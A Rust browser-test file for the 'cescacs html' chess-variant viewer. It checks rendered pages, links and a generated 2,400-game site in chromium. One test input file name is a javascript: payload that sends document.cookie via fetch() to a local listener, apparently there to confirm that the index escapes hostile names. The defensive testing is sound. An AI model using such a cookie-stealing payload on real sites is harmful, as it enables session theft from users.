//! The pages of `cescacs html` in a real browser: every corpus file becomes a page, and
//! `tests/browser/check-pages.js` drives Debian's chromium through playwright-core over them (no
//! request leaves a page, no console error, the board after N steps equals `cescacs board --svg
//! --ply N`, the spec's annotated example by keyboard only, references, flip (button and `f`),
//! the list of keys (`?`), the King in check glowing, a narrow window (the board and the current
//! move in view while stepping at 400 px), the warnings hidden and shown, printing, screenshots
//! read back in pixel samples).
//!
//! Needs `/usr/bin/chromium` and `tests/browser/node_modules` (`npm ci` there; `.ci/run` does
//! both). Without them the test is reported ignored, except when `CI` is set: then it fails.
//! With `CESCACS_BLESS_SCREENSHOT=1` the annotated page's screenshot is copied to
//! `docs/html-viewer.png` (the README shows it). A second trial opens the index of `html
//! --split` over files with hostile names and clicks its links (`tests/browser/check-index.js`);
//! a third makes the site of 2,400 generated games, checks every link of every page by file
//! existence and the site's weight, and uses its index, a sample of its games, its standings
//! and its tree in chromium (`tests/browser/check-site.js`).

use std::path::{Path, PathBuf};
use std::process::Command;

use libtest_mimic::{Arguments, Failed, Trial};

const CHROMIUM: &str = "/usr/bin/chromium";
const BIN: &str = env!("CARGO_BIN_EXE_cescacs");

fn browser_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser")
}

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// What is missing to run the browser, if anything.
fn missing() -> Option<String> {
    if !Path::new(CHROMIUM).exists() {
        return Some(format!("{CHROMIUM} is missing (apt-get install chromium)"));
    }
    if !browser_dir().join("node_modules/playwright-core").is_dir() {
        return Some("tests/browser/node_modules is missing (npm ci there)".to_string());
    }
    if Command::new("node").arg("--version").output().is_err() {
        return Some("node is missing".to_string());
    }
    None
}

fn main() {
    let args = Arguments::from_args();
    let mut trials = vec![
        Trial::test("corpus_pages_in_chromium", corpus_pages),
        Trial::test("an_index_of_hostile_file_names_in_chromium", hostile_index),
        Trial::test("a_site_of_2400_games_in_chromium", site_of_2400_games),
    ];
    if let (Some(why), None) = (missing(), std::env::var_os("CI")) {
        eprintln!("html_browser: ignored: {why}");
        trials = trials.into_iter().map(|t| t.with_ignored_flag(true)).collect();
    }
    libtest_mimic::run(&args, trials).exit();
}

/// Runs `node SCRIPT MANIFEST` in `tests/browser`: its report, or the problems it found.
fn node(script: &str, manifest: &Path) -> Result<String, Failed> {
    let run = Command::new("node")
        .arg(browser_dir().join(script))
        .arg(manifest)
        .current_dir(browser_dir())
        .output()
        .map_err(|e| e.to_string())?;
    let report = String::from_utf8_lossy(&run.stdout).into_owned();
    eprintln!("{report}{}", String::from_utf8_lossy(&run.stderr));
    if !run.status.success() {
        return Err(format!("the browser found problems:\n{report}").into());
    }
    Ok(report)
}

/// Issue 38: the index of `html --split` over files whose names would be a `javascript:` link,
/// a fragment, a query or an escape (`tests/browser/check-index.js`): each of its links clicked
/// leads to a page of the folder, and no request leaves for anything but the folder's files.
fn hostile_index() -> Result<(), Failed> {
    if let Some(why) = missing() {
        return Err(format!("CI is set but the browser test cannot run: {why}").into());
    }
    let tmp = Path::new(env!("CARGO_TARGET_TMPDIR")).join("html-browser-names");
    let _ = std::fs::remove_dir_all(&tmp);
    let inputs = tmp.join("in");
    std::fs::create_dir_all(&inputs).map_err(|e| e.to_string())?;
    let names = [
        "javascript:fetch('http:'+String.fromCharCode(47,47)+'127.0.0.1:8765'+String.fromCharCode(47)+'x?'+document.cookie)<!--.ctl-pgn",
        "a#b.ctl-pgn",
        "100%41.ctl-pgn",
        "what?.ctl-pgn",
        "Moià i Martí.ctl-pgn",
    ];
    let game = "[Variant \"C'escacs\"]\n\n1. E7-E13 :\n*\n";
    for name in names {
        std::fs::write(inputs.join(name), format!("{game}\n{game}")).map_err(|e| e.to_string())?;
    }
    let out = tmp.join("out");
    let run = Command::new(BIN)
        .args(["html", "--split", "-o"])
        .arg(&out)
        .arg(&inputs)
        .output()
        .map_err(|e| e.to_string())?;
    if !run.status.success() {
        return Err(
            format!("cescacs html --split: {}", String::from_utf8_lossy(&run.stderr)).into()
        );
    }
    let dir = out.canonicalize().map_err(|e| e.to_string())?;
    let manifest = serde_json::json!({
        "index": dir.join("index.html"),
        "dir": dir,
        // Two games a file, and the index's links to the standings and the tree.
        "links": names.len() * 2 + 2,
        "scratch": tmp.canonicalize().map_err(|e| e.to_string())?,
    });
    let manifest_path = tmp.join("manifest.json");
    std::fs::write(&manifest_path, manifest.to_string()).map_err(|e| e.to_string())?;
    node("check-index.js", &manifest_path).map(drop)
}

/// The pieces of an SVG of `cescacs-diagram`: `HEX:LETTER`, sorted, space separated.
fn svg_pieces(svg: &str) -> String {
    let mut out: Vec<String> = svg
        .split("<g class=\"piece\"")
        .skip(1)
        .filter_map(|g| {
            let hex = g.split("data-hex=\"").nth(1)?.split('"').next()?;
            let piece = g.split("data-piece=\"").nth(1)?.split('"').next()?;
            Some(format!("{hex}:{piece}"))
        })
        .collect();
    out.sort();
    out.join(" ")
}

/// `cescacs board --svg` of every ply of a game's main line, until it cannot be drawn.
fn boards(file: &Path, game: usize, plies: usize) -> Vec<String> {
    let mut out = Vec::new();
    for ply in 0..=plies {
        let run = Command::new(BIN)
            .args(["board", "--svg", "--ply", &ply.to_string(), "--game", &game.to_string()])
            .arg(file)
            .output()
            .expect("cescacs runs");
        if !run.status.success() {
            break;
        }
        out.push(svg_pieces(&String::from_utf8_lossy(&run.stdout)));
    }
    out
}

/// The games of a file as the page numbers them (empty pseudo-games left out): the number of
/// each for `cescacs board --game`, and its main-line plies.
fn games(text: &str) -> Vec<(usize, usize)> {
    let parsed = ctl_an::parse_file(text);
    parsed
        .file
        .games
        .iter()
        .enumerate()
        .filter(|(_, g)| !g.tags.is_empty() || !g.movetext.pairs.is_empty())
        .map(|(i, g)| (i + 1, g.movetext.ply_count()))
        .collect()
}

fn corpus_pages() -> Result<(), Failed> {
    if let Some(why) = missing() {
        return Err(format!("CI is set but the browser test cannot run: {why}").into());
    }
    let tmp = Path::new(env!("CARGO_TARGET_TMPDIR")).join("html-browser");
    let _ = std::fs::remove_dir_all(&tmp);
    std::fs::create_dir_all(&tmp).map_err(|e| e.to_string())?;
    let mut pages = Vec::new();
    for (dir, clean) in [("valid", true), ("invalid", false), ("generated", true)] {
        let out = tmp.join(dir);
        std::fs::create_dir_all(&out).map_err(|e| e.to_string())?;
        let mut files: Vec<PathBuf> = std::fs::read_dir(root().join("corpus").join(dir))
            .map_err(|e| e.to_string())?
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|e| e == "ctl-pgn"))
            .collect();
        files.sort();
        for file in files {
            // A page alone for each file (a folder of pages is a site: `site_of_2400_games`).
            let page = out.join(file.with_extension("html").file_name().unwrap_or_default());
            let run = Command::new(BIN)
                .arg("html")
                .arg(&file)
                .arg("-o")
                .arg(&page)
                .output()
                .map_err(|e| e.to_string())?;
            let status = if clean { Some(0) } else { run.status.code().filter(|&c| c <= 1) };
            if run.status.code() != status {
                return Err(format!(
                    "cescacs html {} exited {:?}:\n{}",
                    file.display(),
                    run.status.code(),
                    String::from_utf8_lossy(&run.stderr)
                )
                .into());
            }
            let html =
                std::fs::read_to_string(&page).map_err(|e| format!("{}: {e}", page.display()))?;
            for outside in ["src=\"http", "href=\"http", "<link", "@import"] {
                if html.contains(outside) {
                    return Err(format!("{}: `{outside}` on the page", page.display()).into());
                }
            }
            // `url(` only names a part of the page (`url(#id)`).
            if html.match_indices("url(").any(|(at, _)| !html[at..].starts_with("url(#")) {
                return Err(
                    format!("{}: `url(` of something else on the page", page.display()).into()
                );
            }
            let text = String::from_utf8_lossy(&std::fs::read(&file).map_err(|e| e.to_string())?)
                .into_owned();
            pages.push((file, page, games(&text)));
        }
    }
    // `cescacs board` for every ply of every game, on both cores.
    let jobs: Vec<(usize, usize, PathBuf, usize, usize)> = pages
        .iter()
        .enumerate()
        .flat_map(|(p, (file, _, games))| {
            games
                .iter()
                .enumerate()
                .map(move |(i, &(number, plies))| (p, i, file.clone(), number, plies))
        })
        .collect();
    let results = std::sync::Mutex::new(Vec::new());
    let next = std::sync::atomic::AtomicUsize::new(0);
    std::thread::scope(|s| {
        for _ in 0..4 {
            s.spawn(|| {
                loop {
                    let k = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    let Some((p, i, file, number, plies)) = jobs.get(k) else { break };
                    let b = boards(file, *number, *plies);
                    results.lock().unwrap_or_else(|e| e.into_inner()).push((*p, *i, b));
                }
            });
        }
    });
    let mut results = results.into_inner().unwrap_or_else(|e| e.into_inner());
    results.sort_by_key(|r| (r.0, r.1));
    let mut entries: Vec<serde_json::Value> = pages
        .iter()
        .map(|(_, page, _)| serde_json::json!({ "path": page.canonicalize().unwrap_or(page.clone()), "games": [] }))
        .collect();
    for (p, i, b) in results {
        if let Some(games) = entries[p]["games"].as_array_mut() {
            games.push(serde_json::json!({ "index": i, "boards": b }));
        }
    }
    let find = |name: &str| {
        pages
            .iter()
            .position(|(f, _, _)| f.ends_with(name))
            .map(|i| entries[i].clone())
            .ok_or_else(|| format!("corpus/{name} is missing"))
    };
    let shots = tmp.join("screenshots");
    std::fs::create_dir_all(&shots).map_err(|e| e.to_string())?;
    let manifest = serde_json::json!({
        "shots": shots.canonicalize().map_err(|e| e.to_string())?,
        "annotated": find("valid/spec-fools-mate-variations-X01-V-en.ctl-pgn")?,
        "references": find("valid/edge-deep-variations-and-references.ctl-pgn")?,
        "pages": entries,
    });
    let manifest_path = tmp.join("manifest.json");
    std::fs::write(&manifest_path, manifest.to_string()).map_err(|e| e.to_string())?;
    node("check-pages.js", &manifest_path)?;
    if std::env::var_os("CESCACS_BLESS_SCREENSHOT").is_some() {
        std::fs::copy(shots.join("annotated.png"), root().join("docs/html-viewer.png"))
            .map_err(|e| e.to_string())?;
    }
    Ok(())
}

/// How many games the site of [`site_of_2400_games`] holds.
const SITE_GAMES: usize = 2_400;

/// The games of the site: generated games made tournaments, a file an event. The first event
/// is a double round robin of 10 players (90 games: its standings are a grid); the others pair
/// 60 players at random (lists).
fn tournaments(dir: &Path) -> Result<(), String> {
    let club: Vec<String> = (1..=10).map(|i| format!("Club player {i:02}")).collect();
    let open: Vec<String> = (1..=60).map(|i| format!("Open player {i:02}")).collect();
    let mut pairings: Vec<(String, &str, &str)> = Vec::new();
    for cycle in 0..2 {
        for a in 0..club.len() {
            for b in a + 1..club.len() {
                let (w, bl) = if cycle == 0 { (a, b) } else { (b, a) };
                pairings.push(("Club Championship".to_string(), &club[w], &club[bl]));
            }
        }
    }
    let mut rng = cescacs_gen::Rng(2400);
    while pairings.len() < SITE_GAMES {
        let (a, b) = (rng.below(open.len()), rng.below(open.len()));
        if a != b {
            let event = format!("Open {}", 1 + (pairings.len() - 90) / 100);
            pairings.push((event, &open[a], &open[b]));
        }
    }
    let mut files: std::collections::BTreeMap<String, String> = Default::default();
    for (i, (event, white, black)) in pairings.iter().enumerate() {
        let game = cescacs_gen::generate_game(2400, i, 160).text;
        let file = files.entry(event.clone()).or_default();
        if !file.is_empty() {
            file.push('\n');
        }
        for line in game.lines() {
            let line = if line.starts_with("[Event ") {
                format!("[Event \"{event}\"]")
            } else if line.starts_with("[White ") {
                format!("[White \"{white}\"]")
            } else if line.starts_with("[Black ") {
                format!("[Black \"{black}\"]")
            } else {
                line.to_string()
            };
            file.push_str(&line);
            file.push('\n');
        }
    }
    for (event, text) in files {
        let name = format!("{}.ctl-pgn", event.to_lowercase().replace(' ', "-"));
        std::fs::write(dir.join(name), text).map_err(|e| e.to_string())?;
    }
    Ok(())
}

/// The links of a page (`href` and `src`), decoded: the files of the folder they lead to
/// (fragments aside).
fn linked_files(dir: &Path, html: &str) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for attribute in ["href=\"", "src=\""] {
        for link in html.split(attribute).skip(1).filter_map(|h| h.split('"').next()) {
            let path = link.split('#').next().unwrap_or_default();
            if path.is_empty() {
                continue;
            }
            let path = path.strip_prefix("./").unwrap_or(path);
            let decoded = percent_decode(path);
            files.push(dir.join(decoded));
        }
    }
    files
}

/// `%XX` escapes of a link decoded (the site's links are percent-encoded file names).
fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = bytes.get(i + 1..i + 3).and_then(|h| std::str::from_utf8(h).ok());
        match (bytes[i], hex.and_then(|h| u8::from_str_radix(h, 16).ok())) {
            (b'%', Some(byte)) => {
                out.push(byte);
                i += 3;
            }
            (byte, _) => {
                out.push(byte);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Issue 43: the site of a collection of 2,400 games (`html --split`) weighs under 40 MB, every
/// link of every page leads to a file of the folder, and in chromium (`tests/browser/
/// check-site.js`) its index lists, searches and sorts the games, a sample of them opens and
/// leads on, and the standings and the tree open.
fn site_of_2400_games() -> Result<(), Failed> {
    if let Some(why) = missing() {
        return Err(format!("CI is set but the browser test cannot run: {why}").into());
    }
    let tmp = Path::new(env!("CARGO_TARGET_TMPDIR")).join("html-browser-site");
    let _ = std::fs::remove_dir_all(&tmp);
    let games = tmp.join("games");
    std::fs::create_dir_all(&games).map_err(|e| e.to_string())?;
    tournaments(&games)?;
    let out = tmp.join("site");
    let run = Command::new(BIN)
        .args(["html", "--split", "-o"])
        .arg(&out)
        .arg(&games)
        .output()
        .map_err(|e| e.to_string())?;
    if !run.status.success() {
        return Err(
            format!("cescacs html --split: {}", String::from_utf8_lossy(&run.stderr)).into()
        );
    }
    let dir = out.canonicalize().map_err(|e| e.to_string())?;
    // Every link of every page leads to a file of the folder; the folder's weight.
    let (mut bytes, mut pages, mut links) = (0u64, 0usize, 0usize);
    for entry in std::fs::read_dir(&dir).map_err(|e| e.to_string())? {
        let path = entry.map_err(|e| e.to_string())?.path();
        bytes += std::fs::metadata(&path).map_err(|e| e.to_string())?.len();
        if path.extension().is_none_or(|e| e != "html") {
            continue;
        }
        pages += 1;
        let html = std::fs::read_to_string(&path).map_err(|e| e.to_string())?;
        for file in linked_files(&dir, &html) {
            if !file.is_file() {
                return Err(
                    format!("{}: a link to {}, missing", path.display(), file.display()).into()
                );
            }
            links += 1;
        }
    }
    eprintln!("site of {SITE_GAMES} games: {pages} pages, {links} links, {bytes} bytes");
    if pages != SITE_GAMES + 3 {
        return Err(format!("{pages} pages, not a page a game and 3").into());
    }
    if bytes >= 40_000_000 {
        return Err(format!("the site weighs {bytes} bytes, not under 40 MB").into());
    }
    let samples: Vec<usize> = [0, 1, 89, 90, 1_200, 1_201, 2_398, 2_399].to_vec();
    let manifest = serde_json::json!({
        "dir": dir,
        "index": dir.join("index.html"),
        "rows": SITE_GAMES,
        "query": "club championship",
        "queryRows": 90,
        "events": 1 + (SITE_GAMES - 90).div_ceil(100),
        "samples": samples,
        "scratch": tmp.canonicalize().map_err(|e| e.to_string())?,
    });
    let manifest_path = tmp.join("manifest.json");
    std::fs::write(&manifest_path, manifest.to_string()).map_err(|e| e.to_string())?;
    node("check-site.js", &manifest_path).map(drop)
}
